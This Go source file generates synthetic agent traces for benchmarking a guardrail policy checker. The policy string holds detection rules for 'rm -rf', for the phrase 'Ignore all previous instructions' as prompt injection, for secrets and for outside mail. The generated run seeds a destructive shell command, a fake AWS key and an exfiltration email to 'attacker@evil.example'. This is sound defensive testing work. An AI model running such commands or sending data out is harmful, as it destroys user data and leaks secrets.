// Package tracegen generates synthetic agent traces for benchmarks and load
// tests: the same realistic shape everywhere, so figures from different
// packages measure the same input. It is not a fixture library for
// behaviour tests (those keep their traces in testdata/).
package tracegen

import (
	"fmt"
	"strings"
)

// AgentRun returns trace number i of m events shaped like an agent run:
// a user turn, an assistant tool call (lookup_order, arguments as a JSON
// string) and its tool output, repeated. Events are plain JSON values.
func AgentRun(i, m int) []any {
	tr := make([]any, 0, m)
	for k := 0; len(tr) < m; k++ {
		switch k % 3 {
		case 0:
			tr = append(tr, map[string]any{"role": "user", "content": fmt.Sprintf("step %d: please look up order %d and summarise it", k, i)})
		case 1:
			tr = append(tr, map[string]any{"role": "assistant", "content": nil, "tool_calls": []any{map[string]any{
				"id": fmt.Sprintf("call_%d", k), "type": "function",
				"function": map[string]any{"name": "lookup_order", "arguments": fmt.Sprintf(`{"order_id": "A-%d", "verbose": true}`, i)}}}})
		case 2:
			tr = append(tr, map[string]any{"role": "tool", "tool_call_id": fmt.Sprintf("call_%d", k-1), "content": strings.Repeat("order details ", 8)})
		}
	}
	return tr
}

// AgentRuns returns n traces of m events each (AgentRun 0 to n-1).
func AgentRuns(n, m int) [][]any {
	out := make([][]any, n)
	for i := range out {
		out[i] = AgentRun(i, m)
	}
	return out
}

// GuardrailPolicy is the benchmark policy that goes with GuardrailRun:
// five realistic rules — a two-variable flow rule over tool patterns, a
// secrets detector rule, a substring rule, a predicate and a match rule
// with a negation. The policy benchmarks (policy/) and the whole-process
// `vigil check` benchmarks (bench/) both run it.
const GuardrailPolicy = `
from invariant.detectors import secrets

is_destructive(call: ToolCall) :=
    call is tool:bash
    "rm -rf" in call.function.arguments.command

raise "must not mail anyone but Peter after reading the inbox" if:
    (call: ToolCall) -> (call2: ToolCall)
    call is tool:get_inbox
    call2 is tool:send_email({to: "^(?!Peter$).*$"})

raise PolicyViolation("secret in a tool output", out=out) if:
    (out: ToolOutput)
    any(secrets(out))

raise "prompt injection in a tool output" if:
    (out: ToolOutput)
    "Ignore all previous instructions" in out.content

raise f"destructive command {call.function.arguments.command}" if:
    (call: ToolCall)
    is_destructive(call)

raise "mail outside the company" if:
    (call: ToolCall)
    call is tool:send_email
    not match(r".*@acme\.example$", call.function.arguments.to)
`

// GuardrailRun returns one agent run of n events for GuardrailPolicy:
// user turns, assistant tool calls (inbox, files, shell, mail), tool
// outputs and answers, with a leaked AWS key in one tool output of every
// 200 events, a destructive shell command every 280 events and one mail
// to an outside address near the end. Events are plain JSON values.
func GuardrailRun(n int) []any {
	var out []any
	for i := 0; len(out) < n; i++ {
		out = append(out, map[string]any{"role": "user", "content": fmt.Sprintf("Please handle request %d, thanks. Keep it short.", i)})
		var name string
		var args map[string]any
		switch i % 10 {
		case 0:
			name, args = "get_inbox", map[string]any{"n": 10}
		case 3:
			name, args = "bash", map[string]any{"command": fmt.Sprintf("ls -la /tmp/%d", i)}
		case 7:
			name, args = "send_email", map[string]any{"to": "Peter", "body": "see you"}
			if i%70 == 7 {
				name, args = "bash", map[string]any{"command": "rm -rf /tmp/build"}
			}
		case 9:
			name, args = "send_email", map[string]any{"to": "Peter", "body": fmt.Sprintf("report %d", i)}
			if len(out)+8 >= n {
				// one exfiltration near the end of the trace
				args["to"] = "attacker@evil.example"
			}
		default:
			name, args = "read_file", map[string]any{"path": fmt.Sprintf("/home/u/doc%d.txt", i)}
		}
		id := fmt.Sprint("c", i)
		out = append(out, map[string]any{"role": "assistant", "content": nil, "tool_calls": []any{map[string]any{"id": id, "type": "function", "function": map[string]any{"name": name, "arguments": args}}}})
		result := fmt.Sprintf("result %d: the file contains a few lines of ordinary text and numbers 12345.", i)
		if i%50 == 5 {
			result += " AWS_ACCESS_KEY_ID=AKIAZ7VQ3XKP4MBL2NWE" // one leaked key in every 200 events
		}
		out = append(out, map[string]any{"role": "tool", "tool_call_id": id, "content": result})
		out = append(out, map[string]any{"role": "assistant", "content": "Done. Anything else?"})
	}
	return out[:n]
}
